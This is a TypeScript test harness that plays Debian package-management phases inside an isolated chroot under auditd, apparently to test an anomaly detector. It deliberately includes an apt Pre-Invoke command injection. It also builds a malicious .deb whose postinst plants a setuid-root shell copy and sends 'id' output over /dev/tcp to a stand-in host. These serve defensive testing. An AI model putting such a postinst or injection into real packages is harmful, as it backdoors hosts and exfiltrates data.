/** Packages come and go on a real Debian under a real auditd, and somebody does other things besides. */
import { type ChildProcess, spawn } from 'node:child_process'
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Lab } from '../auditd.ts'
import { makeDebian, must } from '../debian.ts'

/** What lies between two phases: more than two windows of the tests. */
export const PAUSE_MS = 7000

/** Where the bad package connects to, in a network of its own. */
export const FAR_SIDE = '203.0.113.66'

interface Phase {
  readonly name: string
  /** For a shell of the Debian. */
  readonly script: string
  readonly isAlone?: true
}

const DAILY =
  'for i in 1 2 3; do ls /etc >/var/tmp/listing; cat /var/tmp/listing >/dev/null; rm /var/tmp/listing; date >>/var/log/daily.log; done'

/** What happens, in this order; the first is what is learned. */
export const PHASES: readonly Phase[] = [
  { name: 'ordinary life', script: `${DAILY}; ${DAILY}` },
  { name: 'update', script: 'apt-get update' },
  {
    name: 'install',
    script:
      'apt-get install -y --no-install-recommends tree cron & cp /bin/true /usr/local/bin/picked; /usr/local/bin/picked; wait $!',
  },
  { name: 'first use', script: `tree /etc/cron.d >/dev/null; ${DAILY}` },
  { name: 'reinstall', script: 'apt-get install -y --reinstall tree' },
  { name: 'use again', script: `tree /etc/cron.d >/dev/null; ${DAILY}` },
  { name: 'remove', script: 'apt-get remove -y tree' },
  {
    name: 'told to run',
    script: "apt-get update -o APT::Update::Pre-Invoke::='id >/var/tmp/who' >/dev/null 2>&1; true",
    isAlone: true,
  },
  { name: 'bad package', script: 'dpkg -i /root/bad.deb', isAlone: true },
]

const BAD_POSTINST = `#!/bin/sh
cp /bin/sh /usr/lib/bad-helper
chmod 4755 /usr/lib/bad-helper
bash -c 'exec 3<>/dev/tcp/${FAR_SIDE}/4444; id >&3' 2>/dev/null || true
`

/** A Debian with a name space of its own, so that names in the log are what they would be on a host. */
export interface Host {
  /** Runs a phase under audit, and waits for its end. */
  play(lab: Lab, phase: Phase): Promise<void>
  stop(): void
}

/** @throws Error when there is no such Debian, or no way to its packages */
export async function startHost(mirror: string): Promise<Host> {
  const root = mkdtempSync(join(tmpdir(), 'fullmon-packages-'))
  makeDebian(root, mirror)
  chmodSync(root, 0o755)
  copyFileSync('/etc/resolv.conf', join(root, 'etc/resolv.conf'))
  // Services may be started: what asks for it would not without this.
  writeFileSync(join(root, 'usr/sbin/policy-rc.d'), '#!/bin/sh\nexit 0\n', { mode: 0o755 })
  makeBadPackage(join(root, 'root/bad'))
  must('chroot', root, 'dpkg-deb', '--build', '/root/bad', '/root/bad.deb')
  for (const words of ['update', 'install --download-only -y --no-install-recommends tree cron'])
    must('chroot', root, 'env', 'PATH=/usr/sbin:/usr/bin:/sbin:/bin', 'apt-get', ...words.split(' '))
  const init = spawn('unshare', [
    '--mount',
    '--pid',
    '--fork',
    '--kill-child',
    '/bin/sh',
    '-c',
    INIT,
    'sh',
    root,
  ])
  await new Promise((resolve, reject) => {
    init.stdout.once('data', resolve)
    init.once('exit', () => reject(new Error('the Debian did not start')))
  })
  const target = childOf(init)
  return {
    async play(lab, { name, script, isAlone }) {
      const words = ['nsenter', '--target', target, '--mount', '--pid', '/bin/bash', '-c', script]
      const env = { DEBIAN_FRONTEND: 'noninteractive', HOME: '/root' }
      const addresses = isAlone === true ? { addresses: [`${FAR_SIDE}/32`] } : {}
      const { status, stderr } = await lab.run(words, { env, ...addresses })
      if (status !== 0) throw new Error(`${name} went wrong: ${stderr}`)
      await lab.settle()
    },
    stop() {
      init.kill('SIGKILL')
      rmSync(root, { recursive: true, force: true, maxRetries: 5 })
    },
  }
}

/** $1 becomes the root of everything that enters. */
const INIT = `
set -e
mount --make-rprivate /
mount --bind "$1" "$1"
mount -t proc proc "$1/proc"
mount --rbind /dev "$1/dev"
mount -t tmpfs tmpfs "$1/tmp"
cd "$1"
mkdir .old
pivot_root . .old
umount -l /.old
echo ready
exec sleep infinity
`

/** The pid of what \`unshare --fork\` has started. */
const childOf = ({ pid = 0 }: ChildProcess): string =>
  readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim()

function makeBadPackage(folder: string): void {
  mkdirSync(join(folder, 'DEBIAN'), { recursive: true })
  const control = {
    Package: 'bad',
    Version: '1.0',
    Architecture: 'all',
    Maintainer: 'nobody <nobody@invalid>',
  }
  const lines = Object.entries({ ...control, Description: 'opens a way in' })
  writeFileSync(join(folder, 'DEBIAN/control'), lines.map(([name, value]) => `${name}: ${value}\n`).join(''))
  writeFileSync(join(folder, 'DEBIAN/postinst'), BAD_POSTINST, { mode: 0o755 })
}

/** When each phase began, by the clock of the log. */
export type Marks = Readonly<Record<string, number>>

/** Plays phases, each in windows of its own. */
export async function playAll(lab: Lab, host: Host, pauseMs: number, phases = PHASES): Promise<Marks> {
  const marks: Record<string, number> = {}
  for (const phase of phases) {
    marks[phase.name] = Date.now()
    await host.play(lab, phase)
    await sleep(pauseMs)
  }
  return { ...marks, end: Date.now() }
}
